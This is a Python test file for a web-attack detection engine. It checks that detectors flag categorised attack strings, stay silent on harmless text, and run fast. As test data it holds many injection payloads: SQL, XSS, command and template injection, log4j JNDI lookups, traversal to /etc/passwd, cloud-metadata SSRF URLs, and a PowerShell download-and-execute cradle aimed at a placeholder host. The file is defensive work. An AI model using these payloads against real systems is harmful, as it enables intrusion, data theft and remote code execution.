"""Detectors by attack and by what looks like one."""

from __future__ import annotations

import gzip
import json
import re
import time
from functools import cache
from pathlib import Path

import pytest

from casemate.engines.web.detectors import detectors
from casemate.engines.web.normalize import normalizers

DATA = Path(__file__).resolve().parents[3] / "data" / "web"
FLAGS = re.IGNORECASE | re.DOTALL | re.MULTILINE

ATTACKS = {
    "sqli_low": [
        b"' or 1=1--", b"1 union select 1,2", b"1; waitfor delay '0:0:5'", b"admin'--", b'" or ""="', b"1/**/or/**/1=1", b"1 and sleep(5)", b"' || (select 1) || '",
        b"1' order by 3-- -", b"1) or (1=1", b"x' and extractvalue(1,concat(0x7e,version()))#", b"1 or 1 like 1", b"1`; drop table users", b"@@version", b"'",
    ],
    "xss": [
        b"<script>alert(1)</script>", b"<img src=x onerror=alert(1)>", b'" onmouseover="alert(1)', b"javascript:alert(1)", b"';alert(1)//", b"<svg/onload=alert`1`>", b"<iframe srcdoc='<p>'>",
        b"<a href='jav\tascript:alert(1)'>", b"<div style='width:expression(1)'>", b"[][(![]+[])[+[]]]", b"{{constructor.constructor('alert(1)')()}}",
    ],
    "unix": [b"; cat /etc/passwd", b"| id", b"$(whoami)", b"`uname -a`", b"&& ls -la", b"() { :; }; echo x", b"echo $HOME", b"/bin/cat /etc/passwd"],
    "windows": [b"& dir c:\\", b"| net user", b"; cmd /c whoami", b"cmd.exe /c dir"],
    "powershell": [b"IEX(New-Object Net.WebClient).DownloadString('http://x')", b"powershell -enc SQBFAFgAIAAoAE4A"],
    "template": [b"{{7*7}}", b"${7*7}", b"<%= 7*7 %>", b"{{config}}", b"{{''.__class__.__mro__}}", b"%{(#a=1)}", b"${T(java.lang.Runtime).getRuntime()}"],
    "php": [b"<?php system('id'); ?>", b"$_GET['x']", b"php://input", b"phpinfo();", b'O:3:"Foo":0:{}'],
    "code": [b"__import__('os').system('id')", b"require('child_process').exec('id')", b"os.execute('id')", b"__proto__[a]"],
    "java": [b"java.lang.Runtime.getRuntime().exec('id')", b"rO0ABXNyAB", b"class.module.classLoader.x", b'{"@type":"com.sun.rowset.JdbcRowSetImpl"}'],
    "log4j": [b"${jndi:ldap://x/a}", b"${${lower:j}ndi:ldap://x/a}", b"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"],
    "nosql": [b"[$ne]", b'{"$gt":""}', b"' || this.password.match(/.*/)//", b"';return true;var a='"],
    "ldap": [b"*)(uid=*))(|(uid=*", b"admin)(&)", b"*)(objectClass=*"],
    "xpath": [b"' or count(/*)=1 or 'a'='b", b"'] | //user | //*['", b"' or position()=1 or '"],
    "traversal": [b"../../../etc/passwd", b"..\\..\\windows\\win.ini", b"/etc/passwd", b"....//....//etc/passwd", b"/proc/self/environ", b"a.php\x00.jpg"],
    "metadata": [b"http://169.254.169.254/latest/", b"http://0xa9fea9fe/", b"http://2852039166/", b"http://[::ffff:a9fe:a9fe]/"],
    "url": [b"http://127.0.0.1/", b"http://0x7f.1/", b"http://2130706433/", b"gopher://x:70/_a", b"file:///etc/passwd", b"http://localhost/admin", b"http://a.example/c99.txt?"],
    "lines": [b"a\r\nSet-Cookie: x=1", b"a@b.example\nBcc: c@d.example", b"x\r\nRCPT TO:<a@b.example>"],
    "xml": [b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', b'<xi:include href="file:///etc/passwd"/>'],
}  # fmt: skip
HARMLESS = [
    b"O'Brien", b"it's 5 o'clock", b"select a plan from the list", b'"machine learning" or "AI"', b"rock 'n' roll", b"R&D; identity", b"salt & pepper", b"a < b and c > d", b"1 + 1 = 2",
    b"<b>bold</b> and <a href='https://example.com/'>link</a>", b"I love JavaScript: it is great", b"{{ user.name }}", b"${name}", b"price: $5", b"see https://example.com/a/b?c=d",
    b"images/a..b.png", b"Please drop the table off; we'll update you", b"union of select committees", b"Hello,\nthis is\na letter", b"james' -- the best of all", b"x = a or b",
    b"john (and mary) or so", b"10-20", b"2026-11-24T10:00:00Z", b"user@example.com", b"#hashtag", b"50% off", b"C# and F#", b"foo(bar)", b"a|b", b"(see above)", b"5'10\"", b"2 in 1 laptop",
]  # fmt: skip


@pytest.mark.parametrize(("name", "value"), [(name, value) for name, values in ATTACKS.items() for value in values])
def test_attack_of_its_kind_is_evidence_for_the_detector(name: str, value: bytes) -> None:
    views = normalizers()["deep"](value)
    found = [said for said in map(detectors()[name], views) if said is not None]
    assert found
    assert found[0].detector == name
    assert 0 < len(found[0].excerpt) <= 100


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_value_is_evidence_for_no_detector(value: bytes) -> None:
    views = normalizers()["deep"](value)
    strict = {"sqli_high", "sqli_extended"}
    assert [
        said for name, detect in detectors().items() if name not in strict for said in map(detect, views) if said
    ] == []


@cache
def payloads() -> tuple[bytes, ...]:
    """Every attack of the corpora once."""
    found = {line for path in sorted(DATA.glob("*/*.txt")) for line in path.read_bytes().splitlines()}
    for path in sorted(DATA.glob("second/*attacks.jsonl.gz")):
        with gzip.open(path, "rt", encoding="utf-8") as lines:
            given = [json.loads(line).get("payload", "") for line in lines]
            found |= {payload.encode("utf-8", "surrogateescape") for payload in given if payload}
    return tuple(sorted(found))


@pytest.mark.parametrize("name", sorted(detectors()))
def test_gate_passes_whatever_the_detector_decides_on(name: str) -> None:
    detect = detectors()[name]
    gate = re.compile(detect.needs, FLAGS)
    missed = [
        view
        for line in payloads()
        for view in normalizers()["deep"](line)
        if detect(view) is not None and gate.search(view) is None
    ]
    assert missed == []


@pytest.mark.parametrize("name", sorted(detectors()))
@pytest.mark.parametrize(
    "piece", [b"<", b"<a ", b"'", b'" ', b"(", b"../", b"${", b"{{", b"; ", b"`", b"http://", b"a=", b"/*", b"or 1=", b"\\", b"$(", b"$a ", b"[]", b"\r\n", b"1,"]
)  # fmt: skip
def test_repeated_piece_costs_little(name: str, piece: bytes) -> None:
    value = (piece * 8192)[:8192]
    start = time.process_time()
    detectors()[name](value)
    assert time.process_time() - start < 0.5
